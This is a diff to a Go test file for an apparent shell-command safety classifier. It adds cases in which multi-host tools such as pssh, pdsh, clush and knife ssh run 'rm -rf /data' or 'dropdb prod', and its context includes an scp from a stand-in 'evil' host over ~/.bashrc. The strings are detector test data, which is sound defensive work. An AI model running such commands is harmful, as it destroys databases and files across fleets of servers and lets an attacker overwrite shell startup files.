@@ -1503,6 +1503,13 @@ func TestMovedLinksGlobsFleetsAndDownloads(t *testing.T) {
 		{"salt '*' cmd.run 'rm -rf /data'", destructive, "fs.rm-recursive"},
 		{"clush -a 'rm -rf /data'", destructive, "fs.rm-recursive"},
 		{"pssh -i -h hosts 'rm -rf /data'", destructive, "fs.rm-recursive"},
+		// The command spelt as several words, which these tools join.
+		{"pssh -h hosts dropdb prod", destructive, "db.dropdb"},
+		{"pdsh -w db[1-3] -R ssh dropdb prod", destructive, "db.dropdb"},
+		{"clush -w n[1-3] -b rm -rf /data", destructive, "fs.rm-recursive"},
+		{"knife ssh role:db dropdb prod", destructive, "db.dropdb"},
+		{"et db1 -c 'dropdb prod'", destructive, "db.dropdb"},
+		{"pssh -h hosts -P uptime", write, ""},
 		{"knife ssh 'role:db' 'rm -rf /data'", destructive, "fs.rm-recursive"},
 		{"scp evil:x ~/.bashrc", destructive, "fs.overwrite-outside-workspace"},
 		{"docker cp c:/x /etc/hosts", destructive, "fs.overwrite-outside-workspace"},
